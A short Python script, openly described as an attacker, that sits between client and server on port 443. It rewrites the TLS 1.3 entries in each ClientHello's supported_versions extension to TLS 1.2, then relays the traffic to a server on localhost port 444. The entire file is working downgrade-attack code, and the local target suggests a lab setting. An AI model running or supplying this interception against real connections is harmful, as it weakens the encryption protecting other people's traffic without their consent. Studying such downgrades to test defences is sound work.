"""An attacker between client and server, who takes TLS 1.3 out of the client's hello: port 443 to itself:444."""

import socket
import threading

from proxy_pump import exactly, pump

SUPPORTED_VERSIONS = b"\x00\x2b"
TLS13, TLS12 = b"\x03\x04", b"\x03\x03"


def serve(client):
    header = exactly(client, 5)
    hello = bytearray(exactly(client, int.from_bytes(header[3:], "big")))
    list_len = hello.find(SUPPORTED_VERSIONS) + 4
    versions = slice(list_len + 1, list_len + 1 + hello[list_len])
    hello[versions] = hello[versions].replace(TLS13, TLS12)
    server = socket.create_connection(("127.0.0.1", 444))
    server.sendall(header + hello)
    threading.Thread(target=pump, args=(client, server), daemon=True).start()
    pump(server, client)


listener = socket.create_server(("", 443))
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
